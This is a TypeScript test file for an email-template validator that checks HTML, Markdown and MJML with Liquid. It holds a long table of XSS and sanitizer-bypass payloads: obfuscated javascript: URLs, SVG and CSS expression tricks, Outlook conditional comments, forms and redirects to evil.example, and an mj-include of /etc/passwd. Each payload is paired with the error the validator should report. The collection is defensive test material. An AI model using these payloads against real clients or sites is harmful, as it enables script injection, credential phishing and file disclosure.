import { describe, expect, it } from 'vitest';
import type { EmailSource } from './email-source.dto.js';
import { checkCompiled, checkSource } from './check.js';
import { compileSource } from './compile.js';

/** The mistakes that are reported to an author. */
async function mistakes(given: Partial<EmailSource>): Promise<string[]> {
  const source = { subject: 'Hello', ...given };
  const early = checkSource(source);
  if (early.length > 0) return early.map(({ pointer, detail }) => `${pointer}: ${detail}`);
  const result = await compileSource(source, {}, {});
  const errors =
    'errors' in result ? result.errors : checkCompiled(source, result.compiled, { storeUrl: undefined, hosts: [] });
  // A mistake about something that is missing, such as a link, has an empty pointer, and has its own specs.
  return errors.filter(({ pointer }) => pointer !== '').map(({ pointer, detail }) => `${pointer}: ${detail}`);
}

const mjml = (inside: string, head = ''): { mjml: string } => ({
  mjml: `<mjml><mj-head>${head}</mj-head><mj-body><mj-section><mj-column>${inside}</mj-column></mj-section></mj-body></mjml>`,
});
const html = (text: string): { html: string } => ({ html: text });

/** Each trick with what the author reads. Most tricks pass a pattern that looks for tags, handlers and addresses. */
const TRICKS: readonly [name: string, source: Partial<EmailSource>, said: string][] = [
  ['a script', html('<script>x()</script>'), '<script>'],
  ['a script without an end', html('<p>a</p><ScRiPt src=//evil.example/x.js'), ''],
  [
    'a script in parts that Liquid joins',
    html("<scr{% if customer.email == 'x' %}{% else %}ipt{% endif %}>x()</script>"),
    '<scr',
  ],
  ['a script for one person only', html("{% if customer.email == 'x' %}<script>x()</script>{% endif %}"), '<script>'],
  ['SVG with a script', html('<svg><script>x()</script></svg>'), '<svg>'],
  ['SVG that loads', html('<svg onload=x()>'), '<svg>'],
  [
    'SVG with an animated address',
    html('<svg><animate xlink:href=#a attributeName=href values=javascript:x() /></svg>'),
    '<svg>',
  ],
  ['SVG with an image by xlink', html('<svg><image xlink:href="javascript:x()"/></svg>'), '<image>'],
  ['MathML', html('<math><mtext><a href="javascript:x()">a</a></mtext></math>'), '<math>'],
  ['a handler', html('<p onclick="x()">a</p>'), 'the attribute onclick'],
  ['a handler behind a slash', html('<img/onerror=x() alt="" src="https://x.example/a.png">'), 'the attribute onerror'],
  ['a handler behind a line break', html('<p\nonmouseover\n=\nx()>a</p>'), 'the attribute onmouseover'],
  ['a handler behind a quotation mark', html('<p title="a"onclick=x()>a</p>'), 'the attribute onclick'],
  ['a handler with > before it', html('<p title=">" onclick="x()">a</p>'), 'the attribute onclick'],
  [
    'a handler behind Liquid',
    html('<p {% if customer.name %}title="a"{% endif %} onclick=x()>a</p>'),
    'the attribute onclick',
  ],
  [
    'a handler in one branch',
    html(`<p title="{% if customer.email == 'x' %}" onclick=x() {% endif %}">a</p>`),
    'the attribute',
  ],
  [
    'a handler out of a name',
    html('<img src="https://x.example/a.png" alt={{ customer.firstName }}>'),
    'the attribute onmouseover',
  ],
  [
    'an attribute for a list of files',
    html('<a ping="https://evil.example" href="https://x.example">a</a>'),
    'the attribute ping',
  ],
  ['an address that runs', html('<a href="javascript:x()">a</a>'), 'the address javascript:'],
  ['an address that runs, in capitals', html('<a href="JaVaScRiPt:x()">a</a>'), 'the address JaVaScRiPt:'],
  ['an address with spaces before it', html('<a href=" \t javascript:x()">a</a>'), 'the address javascript:'],
  ['an address with a line break', html('<a href="java\nscript:x()">a</a>'), 'the address java'],
  ['an address with a tab as an entity', html('<a href="java&#9;script:x()">a</a>'), 'the address java'],
  ['an address with a control character', html('<a href="&#1;javascript:x()">a</a>'), 'the address'],
  ['an address with an invisible character', html('<a href="java&#8203;script:x()">a</a>'), 'the address java'],
  ['an address of entities', html('<a href="&#x6A&#x61&#x76&#x61script&colon;x()">a</a>'), 'the address javascript:'],
  ['an address of data', html('<a href="data:text/html,<script>x()</script>">a</a>'), 'the address data:'],
  ['an image of data', html('<img alt="" src="data:image/svg+xml,<svg onload=x()>">'), 'the address data:'],
  ['an address for Visual Basic', html('<a href="vbscript:x()">a</a>'), 'the address vbscript:'],
  ['an address of a file', html('<img alt="" src="file:////evil.example/share/a.png">'), 'the address file:'],
  ['an address out of a name', html('<a href="{{ customer.firstName }}">a</a>'), 'the address javascript:'],
  [
    'an address out of a product',
    html('{% for p in products %}<a href="{{ p.title }}">a</a>{% endfor %}'),
    'the address javascript:',
  ],
  [
    'an address that Liquid puts together',
    html(`{% assign s = 'java' %}<a href="{{ s }}{{ 'script' }}:x()">a</a>`),
    'the address javascript:',
  ],
  [
    'an address for one person only',
    html(`<a href="{% if customer.email == 'x' %}javascript:{% endif %}//x()">a</a>`),
    'the address javascript:',
  ],
  [
    'an address that a branch begins',
    html(`<a href="{% if customer.email == 'x' %}java{% else %}/{% endif %}script:x()">a</a>`),
    'the address script:',
  ],
  [
    'an address out of a name in one branch',
    html(`{% if customer.email == 'x' %}<a href="{{ customer.name }}">a</a>{% endif %}`),
    'the address javascript:',
  ],
  [
    'a background that runs',
    html('<table background="javascript:x()"><tr><td>a</td></tr></table>'),
    'the address javascript:',
  ],
  [
    'one of several images that runs',
    html('<img alt="" srcset="https://x.example/a.png 1x, javascript:x() 2x">'),
    'the address javascript:',
  ],
  [
    'a page that moves on',
    html('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    '<meta http-equiv="refresh">',
  ],
  [
    'a policy',
    html('<meta http-equiv="Content-Security-Policy" content="x">'),
    '<meta http-equiv="Content-Security-Policy">',
  ],
  ['a base', html('<base href="https://evil.example/">'), '<base>'],
  ['a form', html('<form action="https://evil.example"></form>'), '<form>'],
  ['a field', html('<input type="password" name="p">'), '<input type="password">'],
  ['a field of no type', html('<input name="p">'), '<input> without type'],
  ['a button with an address', html('<button formaction="javascript:x()">a</button>'), '<button>'],
  ['a frame', html('<iframe srcdoc="<script>x()</script>"></iframe>'), '<iframe>'],
  ['frames instead of a body', html('<html><frameset><frame src="javascript:x()"></frameset></html>'), '<frameset>'],
  ['an object', html('<object data="https://evil.example/a.swf"></object>'), '<object>'],
  ['an embedded thing', html('<embed src="javascript:x()">'), '<embed>'],
  ['an applet', html('<applet code="X"></applet>'), '<applet>'],
  ['a portal', html('<portal src="https://evil.example"></portal>'), '<portal>'],
  ['an imported page', html('<link rel="import" href="https://evil.example/x.html">'), '<link rel="import">'],
  ['a prepared connection', html('<link rel="dns-prefetch" href="//evil.example">'), '<link rel="dns-prefetch">'],
  ['a template', html('<template><img src=x onerror=x()></template>'), '<template>'],
  [
    'a thing without a script',
    html('<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>'),
    '<noscript>',
  ],
  [
    'a text area that ends elsewhere',
    html('<textarea><p title="</textarea><img src=x onerror=x()>"></textarea>'),
    '<textarea>',
  ],
  [
    'a title that ends elsewhere',
    html('<title><p title="</title><img alt onerror=x() src=x>"></title>'),
    'the attribute onerror',
  ],
  ['plain text to the end', html('<plaintext><script>x()'), '<plaintext>'],
  ['an element of its own', html('<x-thing>a</x-thing>'), '<x-thing>'],
  ['a comment that ends early', html('<!--><script>x()</script>-->'), '<script>'],
  ['a comment that ends with a mark', html('<!-- a --!><script>x()</script> -->'), '<script>'],
  ['a comment in one branch', html(`{% if customer.email == 'x' %}<!--{% endif %}<script>x()</script>-->`), '<script>'],
  ['a comment for Outlook', html('<!--[if mso]><script>x()</script><![endif]-->'), '<script>'],
  [
    'a comment for Outlook in a comment',
    html('<!--[if mso]><!--[if mso]><object></object><![endif]--><![endif]-->'),
    '<object>',
  ],
  ['a handler for Outlook', html('<!--[if mso]></td><td onclick="x()"><![endif]-->'), 'the attribute onclick'],
  [
    'a vector of Outlook that runs',
    html('<!--[if mso]><v:rect href="javascript:x()"></v:rect><![endif]-->'),
    'the address javascript:',
  ],
  ['a vector outside of a comment', html('<v:rect></v:rect>'), '<v:rect>'],
  ['an expression in a style', html('<p style="width:expression(x())">a</p>'), 'the function expression()'],
  ['an expression with a comment in it', html('<p style="width:exp/**/ression(x())">a</p>'), 'the function ression()'],
  ['an expression in escapes', html('<p style="width:\\65 xpression(x())">a</p>'), 'a backslash'],
  ['an expression in entities', html('<p style="width:&#101;xpression(x())">a</p>'), 'the function expression()'],
  ['a behaviour', html('<style>p{behavior:url(https://evil.example/x.htc)}</style>'), 'the property behavior'],
  [
    'a behaviour behind a text with a comment',
    html(`<style>p{content:"/*";behavior:url(x);quotes:"*/"}</style>`),
    'the property behavior',
  ],
  [
    'a behaviour behind an address with a comment',
    html('<style>p{src:url(/*);behavior:url(x);color:url(*/)}</style>'),
    'the property behavior',
  ],
  ['a behaviour behind nested rules', html('<style>p{behavior:url(x);b{color:red}}</style>'), 'the property behavior'],
  ['a behaviour without an end', html('<style>p{behavior:url(x)</style>'), 'the property behavior'],
  ['a behaviour out of a name', html('<p style="color:red;{{ customer.firstName }}">a</p>'), 'the property behavior'],
  ['a binding', html('<p style="-moz-binding:url(https://evil.example/x.xml#x)">a</p>'), 'the property -moz-binding'],
  [
    'a filter',
    html(`<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')">a</p>`),
    'the property filter',
  ],
  ['a style that loads what runs', html('<p style="background:url(javascript:x())">a</p>'), 'the address javascript:'],
  [
    'a style that loads in quotation marks',
    html(`<style>p{background:url( 'javascript:x()' )}</style>`),
    'the address javascript:',
  ],
  ['rules from elsewhere that run', html('<style>@import "javascript:x()";</style>'), 'the address javascript:'],
  [
    'rules of another kind',
    html('<style>@document url(https://x.example){p{color:red}}</style>'),
    'the rule @document',
  ],
  ['a style that ends elsewhere', html('<style><p title="</style><script>x()</script>"></style>'), '<script>'],
  ['a style of another type', html('<style type="text/javascript">x</style>'), '<style type="text/javascript">'],
  ['Markdown with a script', { body: 'a\n\n<script>x()</script>' }, '<script>'],
  ['Markdown with a link that runs', { body: '[a](javascript:x())' }, 'the address javascript:'],
  ['Markdown with a link in entities', { body: '[a](&#106;avascript:x())' }, 'the address javascript:'],
  ['raw HTML in MJML', mjml('<mj-raw><iframe src="https://x.example"></iframe></mj-raw>'), '<iframe>'],
  ['a script in a text of MJML', mjml('<mj-text><script>x()</script></mj-text>'), '<script>'],
  ['a button of MJML that runs', mjml('<mj-button href="javascript:x()">a</mj-button>'), 'the address javascript:'],
  [
    'attributes of MJML',
    mjml(
      '<mj-text css-class="a">a</mj-text>',
      '<mj-html-attributes><mj-selector path=".a div"><mj-html-attribute name="onclick">x()</mj-html-attribute></mj-selector></mj-html-attributes>',
    ),
    'the attribute onclick',
  ],
  ['a file in MJML', mjml('<mj-include path="/etc/passwd" />'), 'mj-include is not supported'],
  ['a style of MJML', mjml('<mj-text>a</mj-text>', '<mj-style>p{behavior:url(x)}</mj-style>'), 'the property behavior'],
  [
    'a font of MJML that runs',
    mjml('<mj-text font-family="X">a</mj-text>', '<mj-font name="X" href="javascript:x()" />'),
    'the address javascript:',
  ],
  [
    'a background of MJML that runs',
    mjml('<mj-text>a</mj-text></mj-column></mj-section><mj-section background-url="javascript:x()"><mj-column>'),
    'the address javascript:',
  ],
];

describe('active content', () => {
  it.each(TRICKS)('is refused: %s', async (_name, source, said) => {
    const found = await mistakes(source);
    expect(found.join('\n')).toContain(said);
    expect(found.length).toBeGreaterThan(0);
  });

  it('is reported with a pointer to its part of the source', async () => {
    expect(await mistakes(html('<form></form>'))).toEqual([
      '/html: emails must not hold scripts, forms or other active content: <form>',
    ]);
  });
});

const EVERYTHING = `<mjml><mj-head><mj-title>A title</mj-title><mj-preview>Soon</mj-preview>
  <mj-font name="Raleway" href="https://fonts.googleapis.com/css?family=Raleway" /><mj-breakpoint width="320px" />
  <mj-style inline="inline">.x{color:red}</mj-style><mj-style>.y:hover{color:blue}</mj-style>
  <mj-attributes><mj-all font-family="Raleway, Arial" /></mj-attributes></mj-head><mj-body background-color="#eee">
  <mj-hero mode="fixed-height" height="469px" background-width="600px" background-height="469px"
    background-url="https://x.example/b.jpg" background-color="#2a3448"><mj-text>Go</mj-text></mj-hero>
  <mj-wrapper background-url="https://x.example/w.jpg" full-width="full-width">
    <mj-section background-url="https://x.example/s.jpg" background-size="cover" background-repeat="no-repeat"
      full-width="full-width"><mj-column border-radius="4px"><mj-text>Hi {{ customer.firstName }}</mj-text>
      <mj-button href="https://x.example/?a={{ customer.ordersCount }}">B</mj-button>
      <mj-image src="https://x.example/a.png" srcset="https://x.example/a.png 1x, https://x.example/b.png 2x"
        sizes="100vw" alt="A" href="{{ unsubscribeUrl }}" fluid-on-mobile="true" usemap="#m" />
      <mj-divider /><mj-spacer height="10px" /><mj-table><tr><td>a</td></tr></mj-table>
      <mj-raw><p style="margin:0">x</p></mj-raw></mj-column></mj-section></mj-wrapper>
  <mj-section><mj-group><mj-column><mj-text>1</mj-text></mj-column><mj-column><mj-text>2</mj-text></mj-column></mj-group>
  </mj-section>
  <mj-section><mj-column><mj-navbar base-url="https://x.example" hamburger="hamburger">
    <mj-navbar-link href="/a">A</mj-navbar-link></mj-navbar></mj-column></mj-section>
  <mj-section><mj-column><mj-social><mj-social-element name="facebook" href="https://x.example">F</mj-social-element>
  </mj-social></mj-column></mj-section>
  <mj-section><mj-column><mj-accordion><mj-accordion-element><mj-accordion-title>T</mj-accordion-title>
    <mj-accordion-text>x</mj-accordion-text></mj-accordion-element></mj-accordion></mj-column></mj-section>
  <mj-section><mj-column><mj-carousel><mj-carousel-image src="https://x.example/1.png" alt="1" />
    <mj-carousel-image src="https://x.example/2.png" alt="2" /></mj-carousel></mj-column></mj-section>
  </mj-body></mjml>`;

describe('harmless content', () => {
  it.each<[string, Partial<EmailSource>]>([
    ['every component of MJML', { mjml: EVERYTHING }],
    [
      'every kind of Markdown',
      {
        body: '# H\n\n> q\n\n- [x] done\n- open\n\n1. a\n\n| a | b |\n|:--|--:|\n| c | d |\n\n`code` ~~gone~~ **b** *i*\n\n---\n\n```js\nx\n```\n\n![A](https://x.example/a.png "t")\n\n<https://x.example> mail@x.example',
      },
    ],
    [
      'conditions and loops in Markdown',
      {
        body: '{% if customer.name %}Dear {{ customer.name }}{% else %}Hello{% endif %}\n\n{% for p in products %}\n- [{{ p.title }}]({{ p.url }})\n{% endfor %}',
      },
    ],
    [
      'addresses that Liquid chooses',
      html(
        `<a href="{% if lastOrder %}https://x.example/a{% else %}{{ unsubscribeUrl }}{% endif %}">a</a><img alt="" src="https://x.example/{{ customer.country }}:1.png">`,
      ),
    ],
    [
      'what authors of HTML use',
      html(
        `<!doctype html><html lang="en" xmlns:v="urn:schemas-microsoft-com:vml"><head><meta name="viewport" content="width=device-width"><meta http-equiv="X-UA-Compatible" content="IE=edge"><title>A &lt; B</title><!--[if mso]><noscript><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml></noscript><![endif]--><style type="text/css">@media (max-width:600px){.a:not(.b)>td,a[href^="tel"]{width:100%!important;background:#fff url("https://x.example/a.png") no-repeat}} @font-face{font-family:'X';src:url(https://x.example/x.woff2) format("woff2");unicode-range:U+26}</style></head><body bgcolor="#ffffff" style="margin:0; padding:0; mso-line-height-rule:exactly; font:16px/1.5 'Open Sans',Arial"><!-- a comment --><!--[if mso]><table role="presentation"><tr><td width="300"><![endif]--><!--[if !mso]><!--><p>x</p><!--<![endif]--><!--[if mso]></td></tr></table><v:roundrect href="https://x.example" style="height:40px" arcsize="10%" strokecolor="#fff" fillcolor="#333"><w:anchorlock/><center>Go</center></v:roundrect><![endif]--><a href="mailto:a@x.example?subject=Hi" target="_blank" rel="noopener">m</a><a href="tel:+491">t</a><a href="#top" name="top">top</a></body></html>`,
      ),
    ],
  ])('passes: %s', async (_name, source) => {
    expect(await mistakes(source)).toEqual([]);
  });
});

describe('MJML beyond the limits', () => {
  it('is refused before it is compiled: too large', async () => {
    expect(await mistakes(mjml(`<mj-text>${'x'.repeat(102_400)}</mj-text>`))).toEqual([
      expect.stringMatching(/^\/mjml: has 102\d{3} bytes; MJML may have 102400 at most$/),
    ]);
  });

  it('is refused before it is compiled: too deep', async () => {
    const deep = (levels: number) => mjml(`${'<mj-group>'.repeat(levels)}${'</mj-group>'.repeat(levels)}`);
    expect(await mistakes(deep(97))).toEqual(['/mjml: has elements in more than 100 levels']);
    expect(await mistakes(deep(96))).not.toEqual(['/mjml: has elements in more than 100 levels']);
  });

  it('accepts many elements side by side', async () => {
    expect(
      await mistakes(mjml('<mj-text><p>a<br/>b</p><img alt="" src="https://x.example/a.png"></mj-text>'.repeat(120))),
    ).toEqual([]);
  });
});
